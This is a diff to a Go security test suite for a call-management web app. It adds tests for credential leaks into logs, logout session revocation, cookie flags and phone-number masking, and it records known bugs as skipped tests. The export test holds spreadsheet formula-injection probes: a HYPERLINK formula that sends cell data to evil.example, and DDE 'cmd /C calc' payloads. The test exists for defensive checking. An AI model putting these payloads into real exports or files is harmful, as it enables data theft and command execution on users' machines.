@@ -18,6 +18,7 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"net/url"
+	"os"
 	"sort"
 	"strconv"
 	"strings"
@@ -78,6 +79,7 @@ var secRoutes = map[string]secRule{
 	"GET /tasks/live":                                    secAnyone,
 	"GET /calls":                                         secAnyone,
 	"GET /recordings/{task}/{call}":                      secAnyone,
+	"HEAD /recordings/{task}/{call}":                     secAnyone,
 	"GET /templates/{templateid}/audio/{n}":              secAnyone,
 	"GET /tasks/{id}":                                    secAnyone,
 	"GET /tasks/{id}/numbers":                            secAnyone, // the task page shows its numbers (DESIGN: GET /tasks/{id})
@@ -126,6 +128,15 @@ var secRoutes = map[string]secRule{
 // request may reach them.
 var secWrites = []string{"add_task", "editor_task", "pause_task", "resume_task", "end_task", "delete_task",
 	"add_task_data", "add_task_file_data", "delete_task_data"}
+
+// secSafe reports whether method is one CSRF protection lets through.
+func secSafe(method string) bool {
+	switch method {
+	case http.MethodGet, http.MethodHead, http.MethodOptions, http.MethodTrace:
+		return true
+	}
+	return false
+}
 
 func secLevel(r store.Role) int {
 	switch r {
@@ -394,10 +405,10 @@ func TestSecurityAnonymous(t *testing.T) {
 		path := f.fill(r.pattern)
 		what := "anonymous " + r.method + " " + path
 		if rule.public {
-			if r.method != http.MethodGet {
+			if !secSafe(r.method) {
 				continue
 			}
-			res, body := app.Get(t, anon, path)
+			res, body := app.Do(t, anon, r.method, path, nil, nil)
 			secCheck(t, what, res, body)
 			if res.StatusCode >= 400 {
 				t.Errorf("%s: %d, want it served without login", what, res.StatusCode)
@@ -406,10 +417,10 @@ func TestSecurityAnonymous(t *testing.T) {
 		}
 		var res *http.Response
 		var body string
-		if r.method == http.MethodGet {
-			res, body = app.Get(t, anon, path)
+		if secSafe(r.method) {
+			res, body = app.Do(t, anon, r.method, path, nil, nil)
 			secCheck(t, what, res, body)
-			hres, hbody := app.Do(t, anon, http.MethodGet, path, nil, http.Header{"HX-Request": {"true"}})
+			hres, hbody := app.Do(t, anon, r.method, path, nil, http.Header{"HX-Request": {"true"}})
 			secCheck(t, what+" (htmx)", hres, hbody)
 			if hres.StatusCode != http.StatusUnauthorized || !strings.HasPrefix(hres.Header.Get("HX-Redirect"), "/login") {
 				t.Errorf("%s (htmx): %d HX-Redirect %q, want 401 to /login", what, hres.StatusCode, hres.Header.Get("HX-Redirect"))
@@ -453,8 +464,7 @@ func TestSecurityCSRF(t *testing.T) {
 	}
 	for _, r := range f.routes(t) {
 		rule, ok := f.rule(r)
-		if !ok || r.method == http.MethodGet || r.method == http.MethodHead || r.method == http.MethodOptions ||
-			r.method == http.MethodTrace || r.method == http.MethodConnect || r.pattern == "/static/*" {
+		if !ok || secSafe(r.method) || r.pattern == "/static/*" {
 			continue
 		}
 		path := f.fill(r.pattern)
@@ -535,13 +545,13 @@ func TestSecurityRoles(t *testing.T) {
 			rc := clients[role]
 			what := string(role) + " " + r.method + " " + path
 			allowed := secLevel(role) >= secLevel(rule.role)
-			if allowed && r.method != http.MethodGet {
+			if allowed && !secSafe(r.method) {
 				continue // not sent: an allowed POST would change the seeded world
 			}
 			var res *http.Response
 			var body string
-			if r.method == http.MethodGet {
-				res, body = app.Get(t, rc.c, path)
+			if secSafe(r.method) {
+				res, body = app.Do(t, rc.c, r.method, path, nil, nil)
 			} else {
 				res, body = f.post(t, rc.c, path, url.Values{"csrf_token": {rc.tok}}, nil)
 			}
@@ -1012,14 +1022,253 @@ func TestSecuritySessions(t *testing.T) {
 	}
 }
 
-var _ = errors.New
-var _ = io.EOF
-var _ = slog.Default
-var _ = httptest.NewServer
-var _ = sync.Mutex{}
-var _ atomic.Int64
-var _ = time.Second
-var _ = bytes.NewReader
-var _ = zip.NewReader
-var _ = excelize.NewFile
-var _ handlers.Config
+// secBug skips a test that shows a known, reported security bug (see
+// /work/team/SECURITY.md) unless DIALDESK_SECURITY_BUGS=1, so the bug's fixer
+// can run it: DIALDESK_SECURITY_BUGS=1 go test ./handlers/ -run Security.
+// Remove the call once the bug is fixed.
+func secBug(t *testing.T, what string) {
+	t.Helper()
+	if os.Getenv("DIALDESK_SECURITY_BUGS") == "" {
+		t.Skip("SECURITY-BUG: " + what)
+	}
+}
+
+// secFailing fails the client's requests to one platform endpoint as a
+// broken connection would.
+type secFailing []string
+
+func (f secFailing) RoundTrip(r *http.Request) (*http.Response, error) {
+	for _, ep := range f {
+		if strings.HasSuffix(r.URL.Path, "/"+ep) {
+			return nil, errors.New("connection reset by peer")
+		}
+	}
+	return http.DefaultTransport.RoundTrip(r)
+}
+
+// secLog collects log output.
+type secLog struct {
+	mu  sync.Mutex
+	buf bytes.Buffer
+}
+
+func (l *secLog) Write(p []byte) (int, error) {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	return l.buf.Write(p)
+}
+
+func (l *secLog) String() string {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	return l.buf.String()
+}
+
+// TestSecurityPlatformSecretsNotShown: when a lifecycle call to the platform
+// fails in transport, neither the user, the audit pages nor the logs get the
+// platform credentials (surface A sends appid and signature in the query
+// string of its GET calls, and Go's *url.Error quotes the whole URL).
+func TestSecurityPlatformSecretsNotShown(t *testing.T) {
+	secBug(t, "a failed surface A GET quotes its URL with appid and signature into the audit log (shown to managers) and the logs")
+	logs := &secLog{}
+	app := testapp.New(t, testapp.Options{
+		Logger:        slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug})),
+		ClientOptions: []client.Option{client.WithHTTPClient(&http.Client{Transport: secFailing{"pause_task", "query_task"}, Timeout: 10 * time.Second})},
+	})
+	app.RememberSandboxTasks(t)
+	ctx := context.Background()
+	infos, err := app.Client.QueryTaskInfo(ctx, app.Sandbox.TaskIDs())
+	if err != nil {
+		t.Fatal(err)
+	}
+	var running string
+	for _, info := range infos {
+		if info.Status == client.TaskRunning {
+			running = info.ID
+			break
+		}
+	}
+	if running == "" {
+		t.Fatal("no running task in the seed")
+	}
+	c := app.Login(t, store.RoleManager)
+	res, body := app.PostFormBody(t, c, "/tasks/"+running+"/pause", url.Values{})
+	secCheck(t, "failed pause", res, body)
+	if res.StatusCode == http.StatusForbidden || res.StatusCode == http.StatusOK {
+		t.Fatalf("pause with the platform unreachable: %d", res.StatusCode)
+	}
+	if app.Sandbox.Count("pause_task") != 0 {
+		t.Fatal("the failing transport let pause_task through")
+	}
+	if got := mustAudit(t, app, running); !strings.Contains(got, "pause") {
+		t.Fatalf("no audit entry for the failed pause: %q", got)
+	}
+	for _, p := range []string{"/audit", "/tasks/" + running + "/audit", "/tasks/" + running, "/tasks"} {
+		res, body := app.Get(t, c, p)
+		secCheck(t, p, res, body) // secLeaks has appid=, signature=, demo-signature
+	}
+	if l := logs.String(); strings.Contains(l, "demo-signature") || strings.Contains(l, "demo-token") {
+		i := strings.Index(l, "demo-signature")
+		t.Errorf("the logs carry the platform signature: …%s…", l[max(0, i-200):min(len(l), i+40)])
+	}
+}
+
+// mustAudit is the audit log of task as one string.
+func mustAudit(t *testing.T, app *testapp.App, task string) string {
+	t.Helper()
+	es, err := app.Store.Audit(context.Background(), store.AuditFilter{TaskID: task, Limit: 100})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var b strings.Builder
+	for _, e := range es {
+		b.WriteString(e.Action + " " + e.Detail + " " + e.Answer + "\n")
+	}
+	return b.String()
+}
+
+// TestSecurityLogoutEndsSession: after POST /logout, a copy of the session
+// cookie taken before (a shared computer, a stolen cookie) no longer works.
+func TestSecurityLogoutEndsSession(t *testing.T) {
+	secBug(t, "logout only clears the cookie; a copy of the session cookie taken before keeps working until idle/absolute expiry")
+	app := testapp.New(t, testapp.Options{NoSeedData: true})
+	c := app.Login(t, store.RoleAdmin)
+	u, _ := url.Parse(app.URL)
+	old := c.Jar.Cookies(u)
+	if res := app.PostForm(t, c, "/logout", url.Values{}); res.StatusCode != http.StatusSeeOther {
+		t.Fatalf("logout: %d", res.StatusCode)
+	}
+	if res, _ := app.Get(t, c, "/users"); res.StatusCode != http.StatusSeeOther {
+		t.Fatalf("the browser that logged out still gets /users: %d", res.StatusCode)
+	}
+	replay := app.NewClient()
+	replay.Jar.SetCookies(u, old)
+	if res, _ := app.Get(t, replay, "/users"); res.StatusCode != http.StatusSeeOther {
+		t.Errorf("the session cookie from before logout still works (/users %d): logout must end the session on the server", res.StatusCode)
+	}
+}
+
+// TestSecurityCookieFlags: behind https every cookie dialdesk sets is Secure
+// and SameSite=Lax, and all but export_done (read by call.js) HttpOnly.
+func TestSecurityCookieFlags(t *testing.T) {
+	secBug(t, "the csrf_token cookie is set without Secure over https")
+	f := newSecFixture(t, testapp.Options{})
+	app := f.app
+	https := http.Header{"X-Forwarded-Proto": {"https"}}
+	var cookies []*http.Cookie
+	c := app.NewClient()
+	res, body := app.Do(t, c, http.MethodGet, "/login?lang=en", nil, https)
+	cookies = append(cookies, res.Cookies()...)
+	tok := doc(t, body).Find("input[name=csrf_token]").AttrOr("value", "")
+	form := url.Values{"csrf_token": {tok}, "username": {"supervisor"}, "password": {app.Passwords[store.RoleSupervisor]}}
+	res, _ = app.Do(t, c, http.MethodPost, "/login", strings.NewReader(form.Encode()),
+		http.Header{"X-Forwarded-Proto": {"https"}, "Content-Type": {"application/x-www-form-urlencoded"}, "Origin": {"https://" + strings.TrimPrefix(app.URL, "http://")}})
+	if res.StatusCode != http.StatusSeeOther {
+		t.Fatalf("login over https: %d", res.StatusCode)
+	}
+	cookies = append(cookies, res.Cookies()...)
+	res, _ = app.Do(t, c, http.MethodGet, "/tasks/"+f.task+"/calls/export.xlsx?t=abc123", nil, https)
+	cookies = append(cookies, res.Cookies()...)
+	names := map[string]bool{}
+	for _, ck := range cookies {
+		names[ck.Name] = true
+		if !ck.Secure {
+			t.Errorf("cookie %s set over https without Secure", ck.Name)
+		}
+		if ck.SameSite != http.SameSiteLaxMode && ck.SameSite != http.SameSiteStrictMode {
+			t.Errorf("cookie %s: SameSite %v", ck.Name, ck.SameSite)
+		}
+		if !ck.HttpOnly && ck.Name != "export_done" {
+			t.Errorf("cookie %s without HttpOnly", ck.Name)
+		}
+	}
+	for _, want := range []string{"dialdesk", "csrf_token", "lang"} {
+		if !names[want] {
+			t.Errorf("cookie %s not seen (got %v)", want, names)
+		}
+	}
+}
+
+// TestSecurityExportNoFormulas: texts from the platform or a push that
+// begin with = + - @ are written to the call export as text cells, never as
+// formulas.
+func TestSecurityExportNoFormulas(t *testing.T) {
+	f := newSecFixture(t, testapp.Options{})
+	app := f.app
+	probes := []string{`=HYPERLINK("http://evil.example/?x="&A1,"open")`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`}
+	secPushCall(t, app, f.task, map[string]any{"callid": "formula1", "tel": probes[0], "caller": probes[3],
+		"intention_name": []string{probes[1], probes[2]}, "start_time": time.Now().UnixMilli(), "answer_time": time.Now().UnixMilli()})
+	c := app.Login(t, store.RoleSupervisor)
+	res, body := app.Get(t, c, "/tasks/"+f.task+"/calls/export.xlsx")
+	if res.StatusCode != http.StatusOK {
+		t.Fatalf("export: %d", res.StatusCode)
+	}
+	zr, err := zip.NewReader(strings.NewReader(body), int64(len(body)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, zf := range zr.File {
+		if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
+			continue
+		}
+		rc, _ := zf.Open()
+		b, _ := io.ReadAll(rc)
+		rc.Close()
+		if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
+			t.Errorf("%s has formula cells", zf.Name)
+		}
+	}
+	xf, err := excelize.OpenReader(strings.NewReader(body))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer xf.Close()
+	sheet := xf.GetSheetName(0)
+	rows, err := xf.GetRows(sheet)
+	if err != nil {
+		t.Fatal(err)
+	}
+	seen := map[string]bool{}
+	for r, row := range rows {
+		for col, v := range row {
+			cell, _ := excelize.CoordinatesToCellName(col+1, r+1)
+			if fm, _ := xf.GetCellFormula(sheet, cell); fm != "" {
+				t.Errorf("%s is a formula: %q", cell, fm)
+			}
+			for _, p := range probes {
+				if strings.Contains(v, p) {
+					seen[p] = true
+				}
+			}
+		}
+	}
+	if !seen[probes[0]] {
+		t.Logf("note: the pushed call is not in the export (rows %d); only the no-formula checks ran on the platform's rows", len(rows))
+	}
+}
+
+// TestSecurityNumberHideEverywhere: a task's number_hide (set when the task
+// was created) masks the callee on every page that lists its calls, the
+// recent-calls page included.
+func TestSecurityNumberHideEverywhere(t *testing.T) {
+	secBug(t, "/calls shows callees unmasked, ignoring the task number_hide")
+	f := newSecFixture(t, testapp.Options{})
+	app := f.app
+	ctx := context.Background()
+	if err := app.Store.SetTaskCallSettings(ctx, f.task, store.TaskCallSettings{NumberHide: client.NumberHideMiddle4}); err != nil {
+		t.Fatal(err)
+	}
+	const tel = "13812345678"
+	secPushCall(t, app, f.task, map[string]any{"callid": "hidden1", "tel": tel})
+	c := app.Login(t, store.RoleSupervisor)
+	for _, p := range []string{"/tasks/" + f.task + "/calls/hidden1", "/calls"} {
+		res, body := app.Get(t, c, p)
+		secCheck(t, p, res, body)
+		if res.StatusCode != http.StatusOK {
+			t.Errorf("%s: %d", p, res.StatusCode)
+		}
+		if strings.Contains(body, tel) {
+			t.Errorf("%s shows %s in full although the task hides the middle four digits", p, tel)
+		}
+	}
+}
